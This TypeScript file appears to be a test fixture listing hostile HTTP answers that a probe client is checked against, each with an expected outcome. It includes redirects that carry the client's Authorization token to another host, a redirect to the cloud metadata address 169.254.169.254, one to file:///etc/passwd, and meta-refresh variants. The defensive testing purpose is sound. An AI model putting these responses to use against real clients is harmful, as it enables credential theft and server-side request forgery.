import { answer, type HostileAnswer, healthyBody } from './answer.ts'

const statuses = [300, 301, 302, 303, 305, 307, 308]

const headersTo = (to: string): Record<string, string> => ({ location: to })

/** Answers that send the probe, and its credential, to another place. */
export const redirects: readonly HostileAnswer[] = [
  ...statuses.map(
    (status): HostileAnswer => ({
      attack: `${status} to another host, with the token in its query`,
      script: (elsewhere) => (request) => ({
        kind: 'answer',
        status,
        headers: headersTo(`${elsewhere}/?t=${encodeURIComponent(String(request.headers['authorization']))}`),
      }),
      outcome: 'redirected: redirect',
    }),
  ),
  answer('302 to itself, for ever', { kind: 'redirect', to: '/me' }, 'redirected: redirect'),
  answer(
    '302 to the metadata of the machine',
    { kind: 'redirect', to: 'http://169.254.169.254/latest/' },
    'redirected: redirect',
  ),
  answer('302 to a file', { kind: 'redirect', to: 'file:///etc/passwd' }, 'redirected: redirect'),
  answer('302 without a place', { kind: 'answer', status: 302 }, 'redirected: redirect'),
  answer(
    '307 with the body of a good answer',
    { kind: 'json', status: 307, headers: headersTo('/'), body: { login: 'bot', ok: true } },
    'redirected: redirect',
  ),
  answer('304, as if something were cached', { kind: 'answer', status: 304 }, 'redirected: redirect'),
  {
    attack: '200 with a Refresh header',
    script: (elsewhere) => ({ kind: 'answer', status: 200, headers: { refresh: `0; url=${elsewhere}` }, body: '{}' }),
    outcome: 'unrecognized: success',
  },
  {
    attack: '200 with a page that refreshes itself',
    script: (elsewhere) => ({
      kind: 'answer',
      status: 200,
      headers: { 'content-type': 'text/html' },
      body: `<!doctype html><meta http-equiv="refresh" content="0; url=${elsewhere}">`,
    }),
    outcome: 'wrong_target: success',
  },
  {
    attack: '201 with a place, and a good body',
    script: (elsewhere) => ({ kind: 'answer', status: 201, headers: headersTo(elsewhere), body: healthyBody }),
    outcome: 'healthy: success',
  },
]
